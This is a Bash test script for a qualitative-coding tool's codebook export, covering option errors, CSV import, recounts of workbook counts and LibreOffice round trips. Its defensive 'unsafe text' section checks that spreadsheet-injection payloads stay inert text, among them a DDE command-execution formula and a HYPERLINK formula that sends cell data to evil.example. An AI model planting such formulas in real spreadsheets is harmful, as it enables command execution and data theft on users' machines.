#!/usr/bin/env bash
# qualrank codebook: the bundled study's workbook (openpyxl, LibreOffice, counts checked independently in
# Python), reproducible bytes, unsafe text (formula-like, control characters, over-long), and the CSV import
# (round trip, unknown node ids).
set -euo pipefail
source "$(dirname "${BASH_SOURCE[0]}")/lib/grep_q.sh"  # grep_q
: "${QUALRANK:?}" "${SOURCE_DIR:?}" "${FIXTURES:?}"
tmp=$(mktemp -d); trap 'rm -rf "$tmp"' EXIT
fail() { echo "FAIL: $*"; exit 1; }
PY=/usr/bin/python3

# ---- options and failures that need no Python ----
"$QUALRANK" -C "$FIXTURES/codebook/tiny" codebook --format xml >/dev/null 2>&1 && fail "bad --format accepted"
set +e
"$QUALRANK" -C "$FIXTURES/codebook/tiny" codebook --level 4 >/dev/null 2>"$tmp/level.err"; rc=$?
set -e
[[ $rc -eq 2 ]] || fail "--level 4 on a 3-level taxonomy: exit $rc, expected 2"
grep -q "between 1 and 3" "$tmp/level.err" || fail "--level message: $(cat "$tmp/level.err")"

# A YAML escape that yaml-cpp decodes to a lone byte ("\_" -> 0xA0) in front matter: a located error, no
# workbook (it used to exit 0 with an xl/sharedStrings.xml that is not well-formed).
mkdir -p "$tmp/escape" && cp -r "$SOURCE_DIR/codebooks" "$SOURCE_DIR/guidelines" "$SOURCE_DIR/transcripts" "$tmp/escape/"
sed -i 's/^  framework: DeepSpeed$/  framework: "DeepSpeed\\_"/' "$tmp/escape/transcripts/D01.md"
grep -qF 'framework: "DeepSpeed\_"' "$tmp/escape/transcripts/D01.md" || fail "escape fixture not made"
set +e
"$QUALRANK" -C "$tmp/escape" codebook >/dev/null 2>"$tmp/escape.err"; rc=$?
set -e
[[ $rc -eq 1 ]] || fail "escaped lone byte: exit $rc, expected 1: $(cat "$tmp/escape.err")"
grep -qF 'transcripts/D01.md:12:14: error: this value is not valid UTF-8 once its escapes are decoded' "$tmp/escape.err" ||
  fail "escaped lone byte message: $(cat "$tmp/escape.err")"
[[ -e "$tmp/escape/reports/codebook.xlsx" ]] && fail "a workbook was written despite the error"

# An import with unknown node ids: every one reported at its line, exit 1, nothing written or overwritten.
cp -r "$FIXTURES/codebook/tiny" "$tmp/tiny"
table="$FIXTURES/codebook/tables/unknown-node.csv"
set +e
"$QUALRANK" -C "$tmp/tiny" codebook --import-table "$table" >"$tmp/unk.out" 2>"$tmp/unk.err"; rc=$?
set -e
[[ $rc -eq 1 ]] || fail "unknown node import: exit $rc, expected 1"
grep -qxF "$table:3: error: unknown taxonomy node 'C.11'" "$tmp/unk.err" || fail "C.11 message: $(cat "$tmp/unk.err")"
grep -qxF "$table:6: error: unknown taxonomy node 'Z.9'" "$tmp/unk.err" || fail "Z.9 message"
grep -qxF "$table:6: error: unknown taxonomy node 'nonsense theme'" "$tmp/unk.err" || fail "third unknown id"
[[ -e "$tmp/tiny/reports/codebook.xlsx" ]] && fail "a failed import created the workbook"
echo "old contents" >"$tmp/old.xlsx"
"$QUALRANK" -C "$tmp/tiny" codebook --import-table "$table" -o "$tmp/old.xlsx" >/dev/null 2>&1 && fail "import should fail"
[[ "$(cat "$tmp/old.xlsx")" == "old contents" ]] || fail "a failed import overwrote the output"
ls -a "$tmp" | grep_q '\.tmp$' && fail "temp file left behind"

# The tidy CSV of the tables: header, a matrix row, a co-occurrence row (tiny fixture, hand-counted).
"$QUALRANK" -C "$tmp/tiny" codebook --format csv >"$tmp/tiny.csv"
head -1 "$tmp/tiny.csv" | grep_q -x 'table,row,column,count,group_size,percent' || fail "csv header"
grep -qx 'matrix,B.2,experience=advanced,2,2,100.0' "$tmp/tiny.csv" || fail "csv matrix row"
grep -qx 'matrix,A.1,all,2,3,66.7' "$tmp/tiny.csv" || fail "csv 'all' row"
grep -qx 'cooccurrence,B.1,A.2,1,,' "$tmp/tiny.csv" || fail "csv co-occurrence row"

# ---- the bundled study ----
if [[ ! -x $PY ]] || ! $PY -c "import openpyxl, yaml" 2>/dev/null; then
  echo "SKIP: $PY with openpyxl and yaml is needed to read the workbooks (apt install python3-openpyxl python3-yaml)"
  exit 77
fi
ws="$tmp/study"; mkdir "$ws"
cp -r "$SOURCE_DIR/codebooks" "$SOURCE_DIR/guidelines" "$SOURCE_DIR/transcripts" "$ws/"
start=$(date +%s%N)
"$QUALRANK" -C "$ws" codebook >"$tmp/run1.out"
ms=$(( ($(date +%s%N) - start) / 1000000 ))
echo "qualrank codebook on the bundled study: ${ms} ms"
(( ms < 5000 )) || fail "codebook took ${ms} ms"
book="$ws/reports/codebook.xlsx"
[[ -s "$book" ]] || fail "no workbook written"
"$QUALRANK" -C "$ws" code --format json >"$tmp/segments.json"
# Version 1 (the taxonomy file itself, whatever the history adds later) for the check against the YAML.
"$QUALRANK" -C "$ws" codebook --at 1 -o reports/v1.xlsx >/dev/null
"$QUALRANK" -C "$ws" code --at 1 --format json >"$tmp/segments-v1.json"

# Independent recount in Python from `qualrank code --format json`: the latest version with the tree taken
# from the Codebook sheet's Node/Parent/Level columns, version 1 also against the taxonomy YAML.
cat >"$tmp/check.py" <<'EOF'
import json, sys, yaml, openpyxl
book, seg_path = sys.argv[1:3]
tax_path = sys.argv[3] if len(sys.argv) > 3 else None
wb = openpyxl.load_workbook(book)
assert wb.sheetnames == ["Summary", "Codebook", "Coded segments", "Participants", "Matrix", "Co-occurrence", "About"], wb.sheetnames

segments = [s for s in json.load(open(seg_path))["segments"] if s["codes"]]
coded = wb["Coded segments"]
assert coded.max_row - 1 == len(segments), (coded.max_row - 1, len(segments))
assert coded.freeze_panes == "B2" and coded.auto_filter.ref == "A1:L%d" % coded.max_row, (coded.freeze_panes, coded.auto_filter.ref)

# the tree as the Codebook sheet shows it; each parent before its children (preorder)
cb = wb["Codebook"]
head = [c.value for c in cb[1]]
order, parent, level = [], {}, {}
for r in cb.iter_rows(min_row=2, values_only=True):
    row = dict(zip(head, r))
    order.append(row["Node"]); parent[row["Node"]] = row["Parent"]; level[row["Node"]] = row["Level"]
for i in order:
    assert parent[i] is None or (order.index(parent[i]) < order.index(i) and level[i] == level[parent[i]] + 1), i
if tax_path:  # taxonomy order = the file's preorder
    want, want_parent = [], {}
    def walk(nodes, p):
        for n in nodes:
            want.append(n["id"]); want_parent[n["id"]] = p
            walk(n.get("children", []), n["id"])
    walk(yaml.safe_load(open(tax_path))["nodes"], None)
    assert order == want and parent == want_parent, "Codebook rows not in taxonomy order"
def ancestors(i):
    while i is not None:
        yield i; i = parent[i]

assert cb.cell(2, 2).data_type == "n" and cb.cell(2, head.index("Segments (with sub-nodes)") + 1).data_type == "n"

# aggregate counts: segments and participants per node, participants per role
seg_count = {i: 0 for i in order}; people = {i: set() for i in order}
for s in segments:
    hit = set(a for c in s["codes"] for a in ancestors(c["node"]))
    for i in hit:
        seg_count[i] += 1; people[i].add((s["participant"], s["role"]))
for r in cb.iter_rows(min_row=2, values_only=True):
    row = dict(zip(head, r))
    i = row["Node"]
    assert row["Segments (with sub-nodes)"] == seg_count[i], (i, row["Segments (with sub-nodes)"], seg_count[i])
    assert row["Participants (with sub-nodes)"] == len(people[i]), i
    assert row["Role: user"] == sum(1 for p in people[i] if p[1] == "user"), i
    assert row["Role: developer"] == sum(1 for p in people[i] if p[1] == "developer"), i

m = wb["Matrix"]
mh = [c.value for c in m[1]]
users = len({s["participant"] for s in json.load(open(seg_path))["segments"] if s["role"] == "user"})
col = mh.index("Role: user (n=%d)" % users)
for r in m.iter_rows(min_row=2, values_only=True):
    i = r[0]
    n = sum(1 for p in people[i] if p[1] == "user")
    assert r[col] == n and abs(r[col + 1] - n / users) < 1e-12, (i, r[col], r[col + 1])

# co-occurrence at level 2
co = wb["Co-occurrence"]
themes = [i for i in order if level[i] == 2]
assert [c.value for c in co[1]][2:] == themes
count = {(a, b): 0 for a in themes for b in themes}
for s in segments:
    hit = {a for c in s["codes"] for a in ancestors(c["node"]) if level[a] == 2}
    for a in hit:
        for b in hit:
            count[(a, b)] += 1
for r in co.iter_rows(min_row=2, values_only=True):
    for b, v in zip(themes, r[2:]):
        assert v == count[(r[0], b)], (r[0], b, v, count[(r[0], b)])
print("bundled workbook %s: %d coded segments, %d nodes, %d themes checked" % (book.split("/")[-1], len(segments), len(order), len(themes)))
EOF
$PY "$tmp/check.py" "$book" "$tmp/segments.json" || fail "workbook check (see above)"
$PY "$tmp/check.py" "$ws/reports/v1.xlsx" "$tmp/segments-v1.json" "$ws/codebooks/llm-frameworks.yaml" || fail "version 1 check"

# Reproducible: a second run (a second later) gives the same bytes.
sleep 1
"$QUALRANK" -C "$ws" codebook -o reports/again.xlsx >/dev/null
cmp "$book" "$ws/reports/again.xlsx" || fail "two runs differ"
# --level changes the co-occurrence sheet only in its level
"$QUALRANK" -C "$ws" codebook --format json --level 1 | $PY -c "
import json, sys; d = json.load(sys.stdin); assert d['cooccurrence']['nodes'] == ['A', 'B', 'C'], d['cooccurrence']['nodes']" \
  || fail "--level 1"

# ---- unsafe text ----
un="$tmp/unsafe"
cp -r "$FIXTURES/codebook/unsafe" "$un"
cp -r "$FIXTURES/codebook/tiny/codebooks" "$FIXTURES/codebook/tiny/guidelines" "$un/"
$PY -c "
print('---\nparticipant: U3\nrole: user\ncoder: mallory\nattributes:\n  years: 2\n---\n## II.1 Questions')
print('U3: ' + ' '.join('word%d' % i for i in range(6000)))
print('@code A.2')" >"$un/transcripts/U3.md"
"$QUALRANK" -C "$un" codebook >/dev/null 2>"$tmp/unsafe.err"
grep -qF "transcripts/U2.md:10: warning: removed 3 characters that XML 1.0 forbids (control characters) from the text in sheet 'Coded segments' cell F6" "$tmp/unsafe.err" \
  || fail "control character warning: $(cat "$tmp/unsafe.err")"
grep -qF "transcripts/U3.md:9: warning: text in sheet 'Coded segments' cell F8 is longer than Excel's limit of 32,767 characters" "$tmp/unsafe.err" \
  || fail "over-long text warning: $(cat "$tmp/unsafe.err")"
unzip -p "$un/reports/codebook.xlsx" 'xl/worksheets/*.xml' | grep_q '<f>' && fail "a cell holds a formula"
# a literal _x0041_ is stored escaped, or Excel would show "A"
# (the codebook is streamed: its strings are inline in the sheets, there is no shared-strings part)
unzip -p "$un/reports/codebook.xlsx" 'xl/worksheets/*.xml' >"$tmp/shared.xml"  # a file: no early-closed pipe
grep -qF 'show _x005F_x0041_ where' "$tmp/shared.xml" || fail "_x0041_ not escaped"
$PY - "$un/reports/codebook.xlsx" <<'EOF' || fail "unsafe workbook check (see above)"
import sys, openpyxl
wb = openpyxl.load_workbook(sys.argv[1])
ws = wb["Coded segments"]
head = [c.value for c in ws[1]]
q, memo, ctx = head.index("Thematic Quote"), head.index("Research Insight"), head.index("Framework Context")
rows = list(ws.iter_rows(min_row=2))
quotes = [r[q] for r in rows]
for cell, start in zip(quotes[:4], ["=HYPERLINK(", "+1 ", "-2 ", "@SUM("]):
    assert cell.data_type == "s" and cell.value.startswith(start), (cell.data_type, cell.value)
assert rows[0][memo].data_type == "s" and rows[0][memo].value == "=cmd|' /C calc'!A0", rows[0][memo].value
assert rows[0][ctx].data_type == "s" and rows[0][ctx].value.startswith("=HYPERLINK("), rows[0][ctx].value
clean = quotes[4].value
assert clean == "The log printed a bell here, a start-of-heading there and an escape[0m code.", repr(clean)
# Read as Excel does: an _xHHHH_ escape in a string is the character it names (ECMA-376 ST_Xstring); openpyxl
# decodes it in shared strings only, and this codebook's strings are inline (a streamed workbook).
import re
def as_excel(v): return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m.group(1), 16)), v)
assert as_excel(quotes[5].value) == "Our logs show _x0041_ where the A should be.", repr(quotes[5].value)
long = quotes[6].value
assert quotes[6].data_type == "s" and len(long) == 32767, len(long)
assert long.endswith(" characters]") and "… [cut by qualrank: " in long, long[-60:]
p = wb["Participants"]
assert p.cell(2, [c.value for c in p[1]].index("frameworks") + 1).data_type == "s"
print("unsafe workbook: formula-like text kept as strings, control characters removed, long text cut")
EOF

# ---- CSV import: the good table of the tiny workspace gives the same tables as its transcripts ----
"$QUALRANK" -C "$tmp/tiny" codebook --format json >"$tmp/tiny-ws.json"
"$QUALRANK" -C "$tmp/tiny" codebook --import-table "$FIXTURES/codebook/tables/good.csv" --format json >"$tmp/tiny-table.json"
cmp "$tmp/tiny-ws.json" "$tmp/tiny-table.json" || fail "import of good.csv gives other tables"
"$QUALRANK" -C "$tmp/tiny" codebook --import-table "$FIXTURES/codebook/tables/good.csv" -o reports/imported.xlsx >/dev/null
$PY -c "
import openpyxl; wb = openpyxl.load_workbook('$tmp/tiny/reports/imported.xlsx')
assert wb['Coded segments'].max_row == 9 and wb['Participants'].max_row == 4" || fail "imported workbook rows"

# ---- LibreOffice ----
lo=$(command -v libreoffice || command -v soffice || true)
if [[ -z $lo ]]; then
  echo "note: LibreOffice (libreoffice/soffice) is not installed; the conversion check is skipped"
else
  export HOME="$tmp/lo-home"
  filter='csv:Text - txt - csv (StarCalc):44,34,UTF8,1,,0,false,true,false,false,false,-1'
  timeout 300 "$lo" -env:UserInstallation="file://$tmp/lo-profile" --headless --convert-to "$filter" \
    --outdir "$tmp/lo" "$book" >"$tmp/lo.log" 2>&1 || fail "LibreOffice could not convert: $(cat "$tmp/lo.log")"
  seg_csv="$tmp/lo/codebook-Coded segments.csv"
  [[ -s "$seg_csv" ]] || fail "LibreOffice wrote no Coded segments CSV: $(cat "$tmp/lo.log")"
  rows=$($PY -c "import csv,sys; print(sum(1 for _ in csv.reader(open(sys.argv[1], newline='', encoding='utf-8'))) - 1)" "$seg_csv")
  want=$($PY -c "import json,sys; print(sum(1 for s in json.load(open(sys.argv[1]))['segments'] if s['codes']))" "$tmp/segments.json")
  [[ $rows -eq $want ]] || fail "LibreOffice CSV has $rows segment rows, expected $want"
  # Round trip: LibreOffice's CSV of the Coded segments sheet imports back to the same tables.
  "$QUALRANK" -C "$ws" codebook --format json >"$tmp/study-ws.json"
  "$QUALRANK" -C "$ws" codebook --import-table "$seg_csv" --format json >"$tmp/study-table.json"
  cmp "$tmp/study-ws.json" "$tmp/study-table.json" || fail "round trip through LibreOffice CSV changed the tables"
  # The unsafe workbook converts too, the formula-like quote staying text.
  timeout 300 "$lo" -env:UserInstallation="file://$tmp/lo-profile" --headless --convert-to "$filter" \
    --outdir "$tmp/lo-unsafe" "$un/reports/codebook.xlsx" >"$tmp/lo.log" 2>&1 || fail "LibreOffice: unsafe workbook"
  grep -qF '"=HYPERLINK(""http://evil.example/?q=""&A1,""click me"")"' "$tmp/lo-unsafe/codebook-Coded segments.csv" \
    || fail "LibreOffice did not keep the formula-like quote as text"
  grep -qF 'Our logs show _x0041_ where the A should be.' "$tmp/lo-unsafe/codebook-Coded segments.csv" \
    || fail "LibreOffice did not read the literal _x0041_ back as written"
  echo "LibreOffice: converted both workbooks ($rows segment rows), round trip ok"
fi
echo "codebook: ok"
